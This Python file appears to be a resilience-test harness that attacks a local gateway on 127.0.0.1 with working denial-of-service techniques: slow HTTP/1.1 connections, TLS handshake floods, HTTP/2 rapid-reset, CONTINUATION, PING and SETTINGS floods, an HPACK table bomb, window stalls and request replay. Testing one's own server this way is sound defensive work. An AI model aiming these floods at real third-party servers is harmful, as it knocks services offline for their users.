#!/usr/bin/env python3
"""The attackers of tests/attacks/run, each a process of its own: attackers.py KIND key=value...

They speak to 127.0.0.1 alone, from addresses in 127.1.0.0/16, a hundred connections from each, until the monotonic
clock says `until`. The last line of standard output counts what was done. Nothing here checks certificates or signs: an attacker has no keys.
"""

import asyncio
import json
import os
import re
import socket
import ssl
import sys
import threading
import time

from frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, field, frame, head, integer,
)

EACH = 100


def address(number):
    """The source address of the nth connection."""
    source = number // EACH
    return f"127.1.{source // 250}.{source % 250 + 1}"


def context(*protocols):
    it = ssl.create_default_context()
    it.check_hostname, it.verify_mode = False, ssl.CERT_NONE
    it.options |= ssl.OP_NO_TICKET
    if protocols:
        it.set_alpn_protocols(list(protocols))
    return it


class Counts(dict):
    def add(self, name, by=1):
        self[name] = self.get(name, 0) + by


# --- slow connections -----------------------------------------------------------------------------------------------

HEAD = b"POST /v1/payments HTTP/1.1\r\nhost: localhost\r\n"
ASK = b"GET /v1/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n"


async def slow(kind, port, count, ends, counts):
    """`count` connections that do something slowly, each opened anew when it is closed."""
    tls, opening = context(), asyncio.Semaphore(64)

    async def one(number):
        while time.monotonic() < ends:
            writer = None
            try:
                async with opening:
                    counts.add("tried")
                    raw = socket.socket()
                    raw.setblocking(False)
                    if kind == "read":
                        raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
                    raw.bind((address(number), 0))
                    await asyncio.get_running_loop().sock_connect(raw, ("127.0.0.1", port))
                    shake = {} if kind == "silent" else {"ssl": tls, "server_hostname": "localhost"}
                    if kind == "silent":
                        reader, writer = await asyncio.open_connection(sock=raw)
                    else:
                        reader, writer = await asyncio.open_connection(sock=raw, limit=1024, **shake)
                counts.add("opened")
                await dawdle(kind, reader, writer, ends, counts)
            except (OSError, ssl.SSLError, EOFError, asyncio.IncompleteReadError):
                counts.add("closed_on")
                await asyncio.sleep(0.2)
            finally:
                if writer:
                    writer.transport.abort()

    work = [asyncio.ensure_future(one(number)) for number in range(count)]
    await asyncio.wait(work, timeout=max(0.1, ends - time.monotonic()))
    for task in work:
        task.cancel()


async def dawdle(kind, reader, writer, ends, counts):
    """Does as little as it can, until it is closed on or the time is over."""
    first = {"headers": HEAD, "body": HEAD + b"content-length: 60000\r\n\r\n", "read": ASK * 50}
    writer.write(first.get(kind, b""))
    while time.monotonic() < ends:
        left = min(1.0, max(0.01, ends - time.monotonic()))
        if kind == "read":
            got = await reader.read(16)
            await asyncio.sleep(left)
        else:
            try:
                got = await asyncio.wait_for(reader.read(512), left)
            except asyncio.TimeoutError:
                writer.write({"headers": b"x-a: b\r\n", "body": b"x"}.get(kind, b""))
                continue
        if not got:
            return counts.add("closed_on")
        if match := re.match(rb"HTTP/1.1 (\d+)", got):
            counts.add(f"told_{match[1].decode()}")


# --- handshakes -----------------------------------------------------------------------------------------------------

def hello():
    """The first words of an honest handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    it = context().wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        it.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()


def handshakes(port, rate, ends, counts):
    """Says hello, has the gateway reckon, and holds the connection without another word; `rate` a second."""
    words, held, began = hello(), [], time.monotonic()
    while (now := time.monotonic()) < ends:
        while counts.get("hellos", 0) < (now - began) * rate and time.monotonic() < ends:
            try:
                it = socket.create_connection(("127.0.0.1", port), 2, (address(counts.get("hellos", 0) % 5000), 0))
                it.sendall(words)
                held.append(it)
            except OSError:
                counts.add("refused")
            counts.add("hellos")
            while len(held) > 4000:
                held.pop(0).close()
        time.sleep(0.005)


# --- HTTP/2 ---------------------------------------------------------------------------------------------------------

def flood(port, number, ends, counts, first, again, reads):
    """One connection after the other that sends `first`, then `again(n)` until it is closed on."""
    tls = context("h2")
    tls.minimum_version = ssl.TLSVersion.TLSv1_3
    while time.monotonic() < ends:
        try:
            raw = socket.create_connection(("127.0.0.1", port), 5, (address(number * EACH), 0))
            it = tls.wrap_socket(raw, server_hostname="localhost")
            it.settimeout(0.5)
            it.sendall(PREFACE + first)
            counts.add("connections")
            turn = 0
            while time.monotonic() < ends:
                bytes, frames = again(turn)
                if bytes:
                    it.sendall(bytes)
                    counts.add("frames", frames)
                turn += 1
                if reads and drain(it):
                    break
                if not bytes:
                    time.sleep(0.05)
            it.close()
        except (OSError, ssl.SSLError):
            counts.add("closed_on")


def drain(it):
    """Reads what is there; whether the gateway has closed."""
    it.settimeout(0.0)
    try:
        return it.recv(65536) == b""
    except (ssl.SSLWantReadError, BlockingIOError):
        return False
    finally:
        it.settimeout(0.5)


def resets(turn):
    streams = range(1 + turn * 200, 1 + (turn + 1) * 200, 2)
    block = head("POST", "/v1/payments")
    return b"".join(frame(HEADERS, END_HEADERS, it, block) + frame(RST_STREAM, 0, it, b"\0\0\0\x08") for it in streams), 200


def bodies(turn):
    """Bodies that never come, on as many streams as there may be, again and again."""
    if turn % 10:
        return b"", 0
    streams = range(1 + turn * 20, 1 + turn * 20 + 200, 2)
    block = head("POST", "/v1/payments")
    return b"".join(frame(HEADERS, END_HEADERS, it, block) for it in streams), 100


def bomb(turn):
    """One large field put into the table, then named a thousand times in each block."""
    block = head("GET", "/v1/keys")
    if turn == 0:
        block += bytes([0x40]) + integer(7, 1) + b"x" + integer(7, 3500) + b"a" * 3500
    else:
        block += bytes([0x80 | 62]) * 4000
    return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * turn, block), 1


FLOODS = {
    "resets": (b"", resets, True),
    "continuation": (frame(HEADERS, END_STREAM, 1, head("GET", "/")),
                     lambda turn: (frame(CONTINUATION, 0, 1, field("a", "b" * 100) * 50) * 10, 10), True),
    "settings": (b"", lambda turn: (frame(SETTINGS, 0, 0, b"") * 500, 500), True),
    "ping": (b"", lambda turn: (frame(PING, 0, 0, b"12345678") * 500, 500), True),
    # Whoever does not read makes the gateway keep its answers.
    "ping-unread": (b"", lambda turn: (frame(PING, 0, 0, b"12345678") * 500, 500), False),
    "priority": (b"", lambda turn: (frame(PRIORITY, 0, 1 + 2 * turn, b"\0\0\0\0\x10") * 500, 500), True),
    "empty-data": (frame(HEADERS, END_HEADERS, 1, head("POST", "/")),
                   lambda turn: (frame(DATA, 0, 1, b"") * 500, 500), True),
    "window-0": (frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0"),
                 lambda turn: (frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * turn, head("GET", "/v1/openapi.json")), 1)
                 if turn < 100 else (b"", 0), True),
    "window-drip": (frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01"),
                    lambda turn: (frame(HEADERS, END_HEADERS | END_STREAM, 1, head("GET", "/v1/openapi.json")), 1)
                    if turn == 0 else (frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01"), 1) if turn % 20 == 0 else (b"", 0), True),
    "bomb": (b"", bomb, True),
    "bodies": (b"", bodies, True),
}


# --- replay ---------------------------------------------------------------------------------------------------------

def wire(request):
    """A captured request, as bytes."""
    body = request["body"].encode()
    lines = [f"{request['method']} {request['target']} HTTP/1.1", "host: localhost"]
    lines += [f"{name}: {value}" for name, value in request["headers"]]
    if request["method"] == "POST":
        lines.append(f"content-length: {len(body)}")
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def replay(port, file, number, total, ends, counts):
    """Sends captured requests again, `total` times in all, thirty at a time on one connection after the other."""
    requests, tls, sent = [wire(json.loads(line)) for line in open(file)], context(), number
    answered = 0
    while answered < total and time.monotonic() < ends:
        try:
            raw = socket.create_connection(("127.0.0.1", port), 5, (address(number * EACH), 0))
            with tls.wrap_socket(raw, server_hostname="localhost") as it:
                it.settimeout(20)
                while answered < total and time.monotonic() < ends:
                    batch = [requests[(sent + index * 7) % len(requests)] for index in range(30)]
                    sent += 30 * 7
                    it.sendall(b"".join(batch))
                    got = b""
                    while got.count(b"HTTP/1.1 ") < 30 or not got.endswith(b"}"):
                        more = it.recv(65536)
                        if not more:
                            break
                        got += more
                    for status in re.findall(rb"HTTP/1.1 (\d+)", got):
                        counts.add(f"told_{status.decode()}")
                        answered += 1
                    if b"connection: close" in got or not got:
                        break
        except (OSError, ssl.SSLError) as fault:
            counts.add(f"lost_{type(fault).__name__}")


# --------------------------------------------------------------------------------------------------------------------

def in_threads(count, work):
    """Each with counts of its own, added up."""
    own = [Counts() for _ in range(count)]
    threads = [threading.Thread(target=work, args=(number, own[number])) for number in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    total = Counts()
    for counts in own:
        for name, by in counts.items():
            total.add(name, by)
    return total


def main():
    kind, values = sys.argv[1], dict(text.split("=", 1) for text in sys.argv[2:])
    file = values.pop("file", None)
    port, count, until = int(values["port"]), int(values["count"]), float(values["until"])
    counts = Counts()
    if kind in ("headers", "body", "read", "idle", "silent"):
        asyncio.run(slow(kind, port, count, until, counts))
    elif kind == "handshakes":
        handshakes(port, count, until, counts)
    elif kind == "replay":
        counts = in_threads(4, lambda number, own: replay(port, file, number, count // 4, until, own))
    else:
        first, again, reads = FLOODS[kind]
        counts = in_threads(count, lambda number, own: flood(port, number, until, own, first, again, reads))
    print(json.dumps(counts))


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        os._exit(1)
